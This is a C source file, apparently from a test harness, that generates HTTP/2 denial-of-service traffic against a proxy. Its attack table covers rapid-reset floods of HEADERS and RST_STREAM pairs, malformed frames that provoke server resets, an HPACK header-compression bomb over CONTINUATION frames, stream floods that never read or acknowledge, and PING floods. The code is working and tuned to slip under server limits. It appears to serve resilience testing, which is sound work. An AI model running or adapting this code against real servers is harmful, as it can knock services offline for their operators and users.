/* SPDX-License-Identifier: Apache-2.0 */
#include "rows.h"

#include "sock.h"

#include <stdio.h>
#include <string.h>

enum { LATE_US = 5000, BOMB_VALUE = 4000, BOMB_BLOCK_LONG = 86000 };

enum reset_variant {
    RESET_WINDOW_ZERO,
    RESET_WINDOW_OVERFLOW,
    RESET_PRIORITY_LENGTH,
    RESET_PRIORITY_SELF,
    RESET_HEADERS_AFTER_END,
    RESET_DATA_AFTER_END,
    RESET_LENGTH_MISMATCH,
    RESET_LENGTH_EXCEEDED,
    RESET_BAD_HEADER,
};

static void
request_put_fields(struct hpack *h, const struct attack_row *row, struct attack_conn *c,
                   enum hpack_form form)
{
    char id[16];
    snprintf(id, sizeof(id), "%u", c->id);
    hpack_put_indexed(h, 3); /* :method POST */
    hpack_put_indexed(h, 6); /* :scheme http */
    hpack_put_value(h, form, 4, row->path, strlen(row->path));
    hpack_put_value(h, form, 1, "attack.test", 11);
    hpack_put_value(h, form, 31, "application/grpc", 16);
    hpack_put_pair(h, form, "te", "trailers", 8);
    hpack_put_pair(h, form, "x-attack-conn", id, strlen(id));
}

/* The first block stores the five fields in the peer's table; later blocks are 7 bytes, so that
 * 585 pairs of HEADERS and RST_STREAM fit in one 16 KiB read of the peer. */
static void
request_put(struct hpack *h, const struct attack_row *row, struct attack_conn *c)
{
    if (!c->stored) {
        request_put_fields(h, row, c, HPACK_STORE);
        c->stored = true;
        return;
    }
    hpack_put_indexed(h, 3);
    hpack_put_indexed(h, 6);
    for (unsigned index = 66; index >= 62; index--)
        hpack_put_indexed(h, index);
}

static uint32_t
stream_take_id(struct attack_conn *c)
{
    uint32_t id = c->next_stream;
    c->next_stream += 2;
    c->streams++;
    return id;
}

static uint32_t
stream_open(const struct attack_row *row, struct attack_conn *c, unsigned flags)
{
    uint8_t block[512];
    struct hpack h = { .data = block, .cap = sizeof(block) };
    uint32_t id = stream_take_id(c);
    request_put(&h, row, c);
    frame_put(&c->out, FRAME_HEADERS, FLAG_END_HEADERS | flags, id, block, h.len);
    return id;
}

static unsigned
batch_size(const struct attack_row *row, const struct attack_conn *c)
{
    uint64_t left = c->streams_wanted - c->streams;
    return left < row->batch ? (unsigned)left : row->batch;
}

/* A1: the reset follows its HEADERS at once. RST code 8 = CANCEL. */
static bool
reset_now_fill(const struct attack_row *row, struct attack_conn *c, uint64_t now_us)
{
    unsigned n = batch_size(row, c);
    (void)now_us;
    for (unsigned i = 0; i < n; i++)
        frame_put_u32(&c->out, FRAME_RST_STREAM, stream_open(row, c, FLAG_END_STREAM), 8);
    return n > 0;
}

/* A1: the reset comes 5 ms later, when the call has reached the backend. */
static bool
reset_late_fill(const struct attack_row *row, struct attack_conn *c, uint64_t now_us)
{
    bool any = false;
    while (c->late_len && c->late[c->late_head].due_us <= now_us) {
        struct late_batch *b = &c->late[c->late_head];
        for (unsigned i = 0; i < b->count; i++)
            frame_put_u32(&c->out, FRAME_RST_STREAM, b->first_stream + 2 * i, 8);
        c->late_head = (c->late_head + 1) % LATE_RING;
        c->late_len--;
        any = true;
    }
    unsigned n = batch_size(row, c);
    if (c->late_len == LATE_RING || n == 0)
        return any;
    c->late[(c->late_head + c->late_len++) % LATE_RING] = (struct late_batch){
        .first_stream = c->next_stream, .count = n, .due_us = now_us + LATE_US
    };
    for (unsigned i = 0; i < n; i++)
        stream_open(row, c, FLAG_END_STREAM);
    return true;
}

/* A request that announces a body of 5 bytes. */
static uint32_t
stream_open_sized(const struct attack_row *row, struct attack_conn *c)
{
    uint8_t block[512];
    struct hpack h = { .data = block, .cap = sizeof(block) };
    uint32_t id = stream_take_id(c);
    request_put(&h, row, c);
    hpack_put_value(&h, HPACK_PLAIN, 28, "5", 1);
    frame_put(&c->out, FRAME_HEADERS, FLAG_END_HEADERS, id, block, h.len);
    return id;
}

/* Odd turns: a bad name in the request itself.  Even turns: a pseudo field in the trailers, so
 * that the call was already on its way to the backend when it is reset. */
static void
stream_open_bad_header(const struct attack_row *row, struct attack_conn *c)
{
    uint8_t block[512];
    struct hpack h = { .data = block, .cap = sizeof(block) };
    if (c->stored && c->streams % 2) {
        request_put(&h, row, c);
        hpack_put_pair(&h, HPACK_PLAIN, "X-Upper", "1", 1);
        frame_put(&c->out, FRAME_HEADERS, FLAG_END_HEADERS | FLAG_END_STREAM,
                  stream_take_id(c), block, h.len);
        return;
    }
    uint32_t id = stream_open(row, c, 0);
    hpack_put_value(&h, HPACK_PLAIN, 4, "/x", 2);
    frame_put(&c->out, FRAME_HEADERS, FLAG_END_HEADERS | FLAG_END_STREAM, id, block,
              h.len);
}

/* A2: one stream, and one frame that makes the proxy itself send the RST_STREAM. */
static void
provoke_put(const struct attack_row *row, struct attack_conn *c)
{
    static const uint8_t zeros[10];
    uint32_t id;
    switch ((enum reset_variant)row->variant) {
    case RESET_WINDOW_ZERO:
        frame_put_u32(&c->out, FRAME_WINDOW_UPDATE, stream_open(row, c, FLAG_END_STREAM),
                      0);
        break;
    case RESET_WINDOW_OVERFLOW:
        id = stream_open(row, c, FLAG_END_STREAM);
        frame_put_u32(&c->out, FRAME_WINDOW_UPDATE, id, 0x7fffffff);
        break;
    case RESET_PRIORITY_LENGTH:
        id = stream_open(row, c, FLAG_END_STREAM);
        frame_put(&c->out, FRAME_PRIORITY, 0, id, zeros, 4);
        break;
    case RESET_PRIORITY_SELF: {
        id = stream_open(row, c, FLAG_END_STREAM);
        uint8_t p[5] = { (uint8_t)(id >> 24), (uint8_t)(id >> 16), (uint8_t)(id >> 8),
                         (uint8_t)id, 15 };
        frame_put(&c->out, FRAME_PRIORITY, 0, id, p, sizeof(p));
        break;
    }
    case RESET_HEADERS_AFTER_END: {
        uint8_t block[512];
        struct hpack h = { .data = block, .cap = sizeof(block) };
        id = stream_open(row, c, FLAG_END_STREAM);
        request_put(&h, row, c);
        frame_put(&c->out, FRAME_HEADERS, FLAG_END_HEADERS | FLAG_END_STREAM, id, block,
                  h.len);
        break;
    }
    case RESET_DATA_AFTER_END:
        frame_put(&c->out, FRAME_DATA, FLAG_END_STREAM,
                  stream_open(row, c, FLAG_END_STREAM), zeros, 5);
        break;
    case RESET_LENGTH_MISMATCH:
        frame_put(&c->out, FRAME_DATA, FLAG_END_STREAM, stream_open_sized(row, c), zeros,
                  3);
        break;
    case RESET_LENGTH_EXCEEDED:
        frame_put(&c->out, FRAME_DATA, 0, stream_open_sized(row, c), zeros, 10);
        break;
    case RESET_BAD_HEADER:
        stream_open_bad_header(row, c);
        break;
    }
}

static bool
provoke_fill(const struct attack_row *row, struct attack_conn *c, uint64_t now_us)
{
    unsigned n = batch_size(row, c);
    (void)now_us;
    for (unsigned i = 0; i < n; i++)
        provoke_put(row, c);
    return n > 0;
}

/* A4: the first block stores one field of 4,000 bytes; each later byte on the wire (0xbe) is that
 * field again.  The request fields are not stored: they would be pushed out of the table. */
static bool
bomb_fill(const struct attack_row *row, struct attack_conn *c, uint64_t now_us)
{
    static uint8_t block[BOMB_BLOCK_LONG];
    static char value[BOMB_VALUE];
    (void)now_us;
    if (!batch_size(row, c))
        return false;
    memset(value, 'b', sizeof(value));
    struct hpack h = { .data = block, .cap = row->variant };
    request_put_fields(&h, row, c, HPACK_PLAIN);
    if (!c->stored)
        hpack_put_pair(&h, HPACK_STORE, "x", value, sizeof(value));
    c->stored = true;
    while (h.len < h.cap)
        hpack_put_indexed(&h, 62);
    uint32_t id = stream_take_id(c);
    enum frame_type type = FRAME_HEADERS;
    for (size_t at = 0; at < h.len; type = FRAME_CONTINUATION) {
        size_t n = h.len - at < FRAME_MAX_PAYLOAD ? h.len - at : FRAME_MAX_PAYLOAD;
        unsigned end = at + n == h.len ? FLAG_END_HEADERS : 0;
        unsigned half = type == FRAME_HEADERS ? FLAG_END_STREAM : 0;
        frame_put(&c->out, type, end | half, id, block + at, n);
        at += n;
    }
    return true;
}

/* A6 and A15: streams and nothing else. */
static bool
open_fill(const struct attack_row *row, struct attack_conn *c, uint64_t now_us)
{
    unsigned n = batch_size(row, c);
    (void)now_us;
    for (unsigned i = 0; i < n; i++)
        stream_open(row, c, FLAG_END_STREAM);
    return n > 0;
}

/* A9: PINGs and nothing else, or behind one call that hangs (variant 1); the acks are read. They count as `streams`. */
static bool
ping_fill(const struct attack_row *row, struct attack_conn *c, uint64_t now_us)
{
    unsigned n = batch_size(row, c);
    (void)now_us;
    if (row->variant && c->streams == 0)
        stream_open(row, c, 0);
    for (unsigned i = 0; i < n; i++)
        frame_put(&c->out, FRAME_PING, 0, 0, "12345678", 8);
    c->streams += n;
    return n > 0;
}

#define HANG "/attack.Svc/Hang"
#define ECHO "/attack.Svc/Echo"
#define BIG  "/attack.Svc/Big"

#define ROW_A1(tail, n, size, never, function)                                           \
    {                                                                                    \
        .name = "A1-" tail, .path = HANG, .conns = n, .batch = size, .streams = 1000000, \
        .never_read = never, .window = NO_WINDOW_SETTING, .fill = function               \
    }
/* 50 per write is paced, or the peer's read would join the writes again. */
#define ROW_A2(tail, kind)                                                 \
    { .name = "A2-" tail "-50",                                            \
      .path = HANG,                                                        \
      .conns = 1,                                                          \
      .batch = 50,                                                         \
      .pace_us = 1000,                                                     \
      .streams = 100000,                                                   \
      .window = NO_WINDOW_SETTING,                                         \
      .variant = kind,                                                     \
      .fill = provoke_fill },                                              \
    {                                                                      \
        .name = "A2-" tail "-585", .path = HANG, .conns = 1, .batch = 585, \
        .streams = 100000, .window = NO_WINDOW_SETTING, .variant = kind,   \
        .fill = provoke_fill                                               \
    }
#define ROW_A4(tail, size)                                                         \
    {                                                                              \
        .name = "A4-" tail, .path = ECHO, .conns = 1, .batch = 1, .streams = 1000, \
        .window = NO_WINDOW_SETTING, .variant = size, .fill = bomb_fill            \
    }
#define ROW_A6(tail, method, n, each, never, size, more)                  \
    {                                                                     \
        .name = "A6-" tail, .path = method, .conns = n, .batch = each,    \
        .streams = (n) * (each), .never_read = never, .never_ack = never, \
        .window = size, .extra = more, .fill = open_fill                  \
    }
#define ROW_A9(tail, n, call)                                                            \
    {                                                                                    \
        .name = "A9-" tail, .path = HANG, .conns = n, .batch = 900, .streams = 10000000, \
        .window = NO_WINDOW_SETTING, .variant = call, .fill = ping_fill                  \
    }
#define ROW_A15(tail, never, no_ack)                                  \
    {                                                                 \
        .name = "A15-" tail, .path = HANG, .conns = 1, .batch = 1000, \
        .streams = 1000000, .never_read = never, .never_ack = no_ack, \
        .window = NO_WINDOW_SETTING, .fill = open_fill                \
    }

const struct attack_row attack_rows[] = {
    ROW_A1("now-1", 1, 585, false, reset_now_fill),
    ROW_A1("now-50", 50, 585, false, reset_now_fill),
    ROW_A1("now-1-noread", 1, 585, true, reset_now_fill),
    ROW_A1("now-50-noread", 50, 585, true, reset_now_fill),
    /* 8 batches are open at once: below every usual stream limit, so nothing is refused; with 50
     * connections 2,400 calls, which at 4 KiB each fit into the memory gate */
    ROW_A1("late-1", 1, 12, false, reset_late_fill),
    ROW_A1("late-50", 50, 6, false, reset_late_fill),
    ROW_A1("late-1-noread", 1, 12, true, reset_late_fill),
    ROW_A1("late-50-noread", 50, 6, true, reset_late_fill),
    ROW_A2("wuzero", RESET_WINDOW_ZERO),
    ROW_A2("wuover", RESET_WINDOW_OVERFLOW),
    ROW_A2("priolen", RESET_PRIORITY_LENGTH),
    ROW_A2("prioself", RESET_PRIORITY_SELF),
    ROW_A2("hdrhalf", RESET_HEADERS_AFTER_END),
    ROW_A2("datahalf", RESET_DATA_AFTER_END),
    ROW_A2("lenshort", RESET_LENGTH_MISMATCH),
    ROW_A2("lenover", RESET_LENGTH_EXCEEDED),
    ROW_A2("badhdr", RESET_BAD_HEADER),
    ROW_A4("bomb", FRAME_MAX_PAYLOAD),
    ROW_A4("bomb-cont", BOMB_BLOCK_LONG),
    ROW_A6("zero", ECHO, 32, 100, false, 0, false),
    ROW_A6("zero-big", BIG, 10, 100, false, 0, false),
    ROW_A6("noread-big", BIG, 10, 100, true, 0x7fffffff, false),
    /* 5 x 8 answers with 64 KiB held of each: below every buffer limit, so only time ends them */
    ROW_A6("stall", BIG, 5, 8, false, 0, false),
    ROW_A6("thousand", ECHO, 1000, 100, false, 0, true),
    ROW_A9("ping", 1, 0),
    ROW_A9("ping-call", 1, 1),
    ROW_A9("ping-50", 50, 1),
    ROW_A15("read", false, false),
    ROW_A15("noack", false, true),
    ROW_A15("noread", true, false),
    ROW_A15("noack-noread", true, true),
};
const unsigned attack_row_count = sizeof(attack_rows) / sizeof(attack_rows[0]);

const struct attack_row *
row_find(const char *name)
{
    for (unsigned i = 0; i < attack_row_count; i++) {
        if (strcmp(attack_rows[i].name, name) == 0)
            return &attack_rows[i];
    }
    return NULL;
}
